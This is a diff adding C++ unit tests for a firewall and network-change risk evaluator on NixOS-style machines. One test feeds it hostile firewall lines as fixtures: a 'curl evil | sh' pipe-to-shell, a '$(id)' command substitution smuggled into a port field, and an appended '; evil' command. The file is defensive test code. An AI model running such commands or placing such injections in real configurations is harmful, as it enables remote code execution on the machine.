@@ -1,0 +1,136 @@
+#include "tests/unit/evaluator/effects_machine.hpp"
+
+#include "evaluator/effects/firewall.hpp"
+
+using namespace agentd;
+using namespace agentd::test;
+using proposals::Risk;
+
+namespace {
+
+constexpr auto ssh_rule = "ip46tables -A nixos-fw -p tcp --dport 22 -j nixos-fw-accept \n";
+
+Machine guarded(Pair& pair, const std::string& rules) {
+    auto machine = plain_machine();
+    machine.units["firewall.service"] = pair.firewall_unit(rules);
+    machine.wants["multi-user.target"] = {"firewall.service"};
+    return machine;
+}
+
+} // namespace
+
+TEST_CASE("an opened port is told once, and nothing else with it") {
+    Pair pair;
+    const auto before = guarded(pair, ssh_rule);
+    const auto after =
+        guarded(pair, std::string(ssh_rule) +
+                          "ip46tables -A nixos-fw -p tcp --dport 8080 -j nixos-fw-accept \n");
+    const auto found = pair.compare(before, after);
+    CHECK(names(found) == std::vector<std::string>{"network/port_opened 8080/tcp",
+                                                   "units/unit_changed firewall.service"});
+    CHECK(found.effects[0].sentence == "port 8080/tcp will be reachable from the network");
+    CHECK(found.effects[1].risk == Risk::low);
+    CHECK(the(pair.compare(after, before), "port_closed").subject == "8080/tcp");
+}
+
+TEST_CASE("ranges, protocols and interfaces are told apart") {
+    Pair pair;
+    const auto found = pair.compare(
+        guarded(pair, ""),
+        guarded(pair, "ip46tables -A nixos-fw -p udp --dport 60000:61000 -j nixos-fw-accept \n"
+                      "ip46tables -A nixos-fw -p tcp --dport 80 -j nixos-fw-accept -i wg0\n"
+                      "ip46tables -A nixos-fw -i br0 -j nixos-fw-accept\n"));
+    CHECK(names(found) == std::vector<std::string>{"network/port_opened 60000-61000/udp",
+                                                   "network/port_opened 80/tcp on wg0",
+                                                   "network/port_opened everything on br0",
+                                                   "units/unit_changed firewall.service"});
+}
+
+TEST_CASE("a firewall that runs /bin/true is a firewall removed") {
+    Pair pair;
+    const auto before = guarded(pair, ssh_rule);
+    auto after = before;
+    after.units["firewall.service"] =
+        "[Unit]\nDescription=Firewall\n[Service]\nExecStart=/bin/true\n";
+    CHECK(the(pair.compare(before, after), "firewall_removed").risk == Risk::critical);
+}
+
+TEST_CASE("a firewall unit that is gone, masked or never started is a firewall removed") {
+    Pair pair;
+    const auto before = guarded(pair, ssh_rule);
+    auto gone = before;
+    gone.units.erase("firewall.service");
+    CHECK(has(pair.compare(before, gone), "firewall_removed"));
+    auto masked = before;
+    masked.units["firewall.service"] = "/dev/null";
+    CHECK(has(pair.compare(before, masked), "firewall_removed"));
+    auto unstarted = before;
+    unstarted.wants.clear();
+    CHECK(has(pair.compare(before, unstarted), "firewall_removed"));
+    CHECK(has(pair.compare(gone, before), "firewall_added"));
+}
+
+TEST_CASE("a firewall line that is no plain port is a changed firewall and a root command") {
+    for (const auto* line : {"ip46tables -A nixos-fw -j nixos-fw-accept\n",
+                             "ip46tables -A nixos-fw -p tcp --dport $(id) -j nixos-fw-accept\n",
+                             "curl evil | sh # -p tcp --dport 80\n",
+                             "ip46tables -A nixos-fw -p tcp --dport 80 -j nixos-fw-accept ; evil\n",
+                             "ip46tables -A nixos-fw -p tcp --dport 99999 -j nixos-fw-accept\n"}) {
+        CAPTURE(line);
+        Pair pair;
+        const auto found =
+            pair.compare(guarded(pair, ssh_rule), guarded(pair, ssh_rule + std::string(line)));
+        CHECK(the(found, "firewall_changed").risk == Risk::high);
+        CHECK(has(found, "unit_root_exec"));
+    }
+}
+
+TEST_CASE("a rule below the refusal does not count as open") {
+    Pair pair;
+    auto before = guarded(pair, ssh_rule);
+    auto after =
+        guarded(pair, "ip46tables -A nixos-fw -j nixos-fw-log-refuse\n" + std::string(ssh_rule));
+    const auto found = pair.compare(before, after);
+    CHECK(the(found, "port_closed").subject == "22/tcp");
+    CHECK(has(found, "firewall_changed"));
+}
+
+TEST_CASE("a rule set of nftables is read as well") {
+    Pair pair;
+    const auto rules = [&](const std::string& ports) {
+        auto machine = plain_machine();
+        const auto script = pair.store.file(
+            "nftables-rules",
+            "#!" + pair.store.package("nftables-1.0.9", "nft") +
+                "/bin/nft -f\ntable inet nixos-fw {\nchain input {\n"
+                "type filter hook input priority filter; policy drop;\n}\nchain input-allow {\n"
+                "tcp dport { " +
+                ports + " } accept\niifname \"wg0\" udp dport { 53 } accept\n}\n}\n",
+            true);
+        machine.units["nftables.service"] = "[Service]\nExecStart=" + script + "\n";
+        machine.wants["multi-user.target"] = {"nftables.service"};
+        return machine;
+    };
+    const auto found = pair.compare(rules("22"), rules("22, 8000-8010"));
+    CHECK(names(found) == std::vector<std::string>{"network/port_opened 8000-8010/tcp",
+                                                   "units/unit_changed nftables.service"});
+}
+
+TEST_CASE("without a firewall a listening socket is a way in") {
+    Pair pair;
+    const auto before = plain_machine();
+    auto after = before;
+    after.units["x.socket"] = "[Socket]\nListenStream=0.0.0.0:9000\nListenStream=/run/x.sock\n";
+    CHECK(the(pair.compare(before, after), "port_opened").subject == "0.0.0.0:9000 (x.socket)");
+}
+
+TEST_CASE("other name servers and fixed names are told") {
+    Pair pair;
+    const auto before = plain_machine();
+    auto after = before;
+    after.etc["resolv.conf"] = "nameserver 203.0.113.66\n";
+    after.etc["hosts"] = "127.0.0.1 localhost\n203.0.113.66 cache.nixos.org\n";
+    const auto found = pair.compare(before, after);
+    CHECK(the(found, "dns_changed").risk == Risk::high);
+    CHECK(the(found, "hosts_changed").risk == Risk::critical);
+}
